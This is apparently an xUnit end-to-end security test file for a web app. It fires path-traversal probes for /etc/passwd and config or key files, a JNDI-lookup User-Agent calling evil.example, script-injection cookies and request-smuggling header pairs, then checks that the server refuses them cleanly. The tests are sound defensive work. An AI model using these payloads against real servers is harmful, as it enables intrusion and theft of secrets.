using System.Text;
using Microsoft.Extensions.Logging;
using Xunit;

namespace GeminiStudio.E2E.Doors;

/// <summary>Requests that nobody sends by accident: answered by name or by silence, never by a fault of ours.</summary>
public sealed class StrangeRequestTests(DoorFixture door) : IClassFixture<DoorFixture>
{
    private static CancellationToken Cancellation => TestContext.Current.CancellationToken;

    [Theory]
    [InlineData("/%2e%2e/appsettings.json")]
    [InlineData("/../appsettings.json")]
    [InlineData("/..%2fappsettings.json")]
    [InlineData("/%2e%2e%2f%2e%2e%2fetc/passwd")]
    [InlineData("/..%5c..%5cappsettings.json")]
    [InlineData("/lib/..%2f..%2fappsettings.json")]
    [InlineData("/appsettings.json")]
    [InlineData("/appsettings.Production.json")]
    [InlineData("/GeminiStudio.Web.dll")]
    [InlineData("/GeminiStudio.Web.staticwebassets.endpoints.json")]
    [InlineData("/web.config")]
    [InlineData("/.git/config")]
    [InlineData("/.env")]
    [InlineData("/data/app.db")]
    [InlineData("/studio.db")]
    [InlineData("/rings/session/key.xml")]
    [InlineData("/keys/")]
    [InlineData("/keys/add")]
    [InlineData("/app.css.map")]
    [InlineData("/_framework/blazor.web.js.map")]
    [InlineData("/app.css%00.html")]
    [InlineData("//evil.example/app.css")]
    [InlineData("/metrics")]
    [InlineData("/__emulator/requests")]
    [InlineData("/swagger/index.html")]
    public async Task There_is_nothing_to_be_found_beside_the_routes(string target)
    {
        var answer = await door.Http.GetAsync(target, Cancellation);

        Assert.True(answer.Status is 404 or 400 or 405 || (target == "/keys/" && answer.Status == 200), $"{target} answered {answer.Status}.");
        Assert.DoesNotContain("root:", answer.Body, StringComparison.Ordinal);
        Assert.DoesNotContain("ConnectionStrings", answer.Body, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("/health/live", "live")]
    [InlineData("/health/ready", "ready busy")] // busy while the machine is
    [InlineData("/health/live?verbose", "live")]
    [InlineData("/health/ready?verbose=1", "ready busy")]
    public async Task Health_is_one_word(string path, string words)
    {
        using var client = door.Client();
        using var answer = await client.GetAsync(path, Cancellation);
        Assert.Contains(await answer.Content.ReadAsStringAsync(Cancellation), words.Split(' '));
    }

    [Theory]
    [InlineData("Accept-Language: xx-INVALID;q=9")]
    [InlineData("Accept-Language: {long}")]
    [InlineData("Time-Zone: Mars/Olympus")]
    [InlineData("User-Agent: \u001b[31m${jndi:ldap://evil.example/a} %n{0}")]
    [InlineData("User-Agent: {long}")]
    [InlineData("Referer: javascript:alert(1)//{long}")]
    [InlineData("Cookie: gs-theme=<script>; gs-af=tampered; .AspNetCore.Identity.Application=forged")]
    [InlineData("Cookie: {many}")]
    [InlineData("Accept-Encoding: gzip;q=NaN, \u0001")]
    [InlineData("Range: bytes=9-1,-5,abc")]
    [InlineData("If-None-Match: \"")]
    [InlineData("Accept: \u00ff/\u00fe")]
    [InlineData("X-HTTP-Method-Override: DELETE")]
    public async Task A_strange_header_changes_nothing_and_is_not_logged(string header)
    {
        header = header.Replace("{long}", new string('x', 8_000), StringComparison.Ordinal)
            .Replace("{many}", string.Join("; ", Enumerable.Range(0, 300).Select(i => $"c{i}=v")), StringComparison.Ordinal);
        foreach (var path in new[] { "/", "/keys", "/app.css", $"/api/drafts/{Guid.NewGuid()}" })
        {
            var answer = await door.Http.GetAsync(path, Cancellation, header);
            Assert.True(answer.Status is >= 200 and < 500, $"{path} answered {answer.Status}.");
        }

        Assert.DoesNotContain("jndi", door.Log.All, StringComparison.Ordinal);
        Assert.DoesNotContain("\u001b", door.Log.All, StringComparison.Ordinal);
        AssertNoFault();
    }

    [Theory]
    [InlineData("GET / HTTP/1.1\nHost: {host}")]
    [InlineData("GET / HTTP/9.9")]
    [InlineData("G\u0001T / HTTP/1.1")]
    [InlineData("GET /\u0001 HTTP/1.1")]
    [InlineData("GET http:// HTTP/1.1")]
    [InlineData("GET * HTTP/1.1")]
    [InlineData("OPTIONS * HTTP/1.1")]
    [InlineData("CONNECT evil.example:443 HTTP/1.1")]
    [InlineData("TRACE / HTTP/1.1")]
    [InlineData("PRI * HTTP/2.0")]
    [InlineData("POST / HTTP/1.1|Content-Length: 5|Transfer-Encoding: chunked")]
    [InlineData("POST / HTTP/1.1|Content-Length: 5|Content-Length: 6")]
    [InlineData("POST / HTTP/1.1|Content-Length: -1")]
    [InlineData("POST /keys/add HTTP/1.1|Content-Length: 99999999999999999999")]
    [InlineData("POST /keys/add HTTP/1.1|Transfer-Encoding: gzip, chunked")]
    [InlineData("GET / HTTP/1.1|X: a| folded")]
    [InlineData("GET / HTTP/1.1|Cookie: {16k}")]
    [InlineData("GET /{16k} HTTP/1.1")]
    public async Task Broken_HTTP_gets_a_refusal_and_the_server_goes_on(string request)
    {
        var lines = request.Replace("{16k}", new string('c', 40_000), StringComparison.Ordinal).Replace("{host}", door.Http.Authority, StringComparison.Ordinal).Split('|');

        var answer = await door.Http.SendAsync([lines[0], $"Host: {door.Http.Authority}", .. lines[1..], "Connection: close"], null, Cancellation);

        Assert.True(answer.Status is 0 or 200 or (>= 400 and < 500) or 505, $"It answered {answer.Status}.");
        Assert.Equal(200, (await door.Http.GetAsync("/health/live", Cancellation)).Status);
        AssertNoFault();
    }

    [Fact]
    public async Task Two_megabytes_to_a_page_are_not_read() =>
        Assert.InRange((await door.Http.SendAsync(["POST / HTTP/1.1", $"Host: {door.Http.Authority}", "Content-Length: 2000000", "Connection: close"], Encoding.ASCII.GetBytes(new string('x', 2_000_000)), Cancellation)).Status, 400, 499);

    private void AssertNoFault() => Assert.DoesNotContain(door.Log.Of(LogLevel.Error).Concat(door.Log.Of(LogLevel.Critical)), l => !l.Contains("Antiforgery", StringComparison.Ordinal));
}
